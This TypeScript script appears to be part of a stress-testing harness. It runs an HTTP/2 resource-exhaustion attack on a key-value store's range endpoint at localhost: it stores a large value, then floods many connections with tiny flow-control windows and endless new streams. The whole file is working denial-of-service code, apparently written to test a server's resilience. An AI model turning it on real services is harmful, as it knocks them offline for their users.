/**
 * Many streams of HTTP/2 that each ask for a quarter of a megabyte as JSON, more and more of them,
 * whether or not what was answered has been read. Arguments: connections.
 */
import {
  block,
  bytesField,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  HostileConnection,
  message,
  PUT,
  request,
  u32,
  WINDOW_UPDATE,
} from "./hostile-connection.ts";
import { runAttack } from "./script.ts";

const VALUE_BYTES = 240_000;
const STREAMS_PER_STRIKE = 50;
const STRIKE_MS = 50;
const INITIAL_WINDOW = 4;
const WINDOW_BYTES = 2 ** 30;

const KEY = Buffer.from("streams");
const BODY = Buffer.from(JSON.stringify({ key: KEY.toString("base64"), serializable: true }));
const HEAD = block([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/v3/kv/range"],
  [":authority", "localhost"],
]);

async function store(port: number): Promise<void> {
  const connection = await HostileConnection.begin(port);
  const put = message(
    Buffer.concat([bytesField(1, KEY), bytesField(2, Buffer.alloc(VALUE_BYTES, "v"))]),
  );
  connection.send(frame(HEADERS, END_HEADERS, 1, request(PUT)));
  for (let at = 0; at < put.length; at += 16_000) {
    const flags = at + 16_000 >= put.length ? END_STREAM : 0;
    connection.send(frame(DATA, flags, 1, put.subarray(at, at + 16_000)));
    while ((connection.received[WINDOW_UPDATE] ?? 0) < 2) await Bun.sleep(1); // the grant
  }
  while (connection.dataBytes === 0) await Bun.sleep(1);
  connection.close();
}

await runAttack(async (attack) => {
  const [count = "100"] = attack.args;
  await store(attack.port);
  const open = () => HostileConnection.begin(attack.port, [INITIAL_WINDOW, WINDOW_BYTES]);
  const connections = await Promise.all(Array.from({ length: Number(count) }, open));
  for (const connection of connections) {
    connection.send(frame(WINDOW_UPDATE, 0, 0, u32(WINDOW_BYTES)));
  }
  attack.begin();
  for (let id = 1; !attack.over; await Bun.sleep(STRIKE_MS)) {
    const parts: Uint8Array[] = [];
    for (let stream = 0; stream < STREAMS_PER_STRIKE; stream++, id += 2) {
      parts.push(frame(HEADERS, END_HEADERS, id, HEAD), frame(DATA, END_STREAM, id, BODY));
    }
    for (const connection of connections) connection.send(...parts);
    attack.count("ranges asked for", connections.length * STREAMS_PER_STRIKE);
  }
  for (const connection of connections) {
    attack.count("answered bytes", connection.dataBytes);
    connection.close();
  }
});
